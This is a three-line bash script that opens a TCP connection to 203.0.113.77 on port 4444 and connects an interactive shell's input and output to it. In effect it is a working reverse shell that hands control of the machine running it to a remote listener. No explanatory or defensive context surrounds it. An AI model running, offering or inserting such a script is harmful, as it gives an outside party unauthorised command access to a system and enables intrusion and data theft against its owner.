#!/bin/bash
exec 5<>/dev/tcp/203.0.113.77/4444
sh <&5 >&5 2>&5
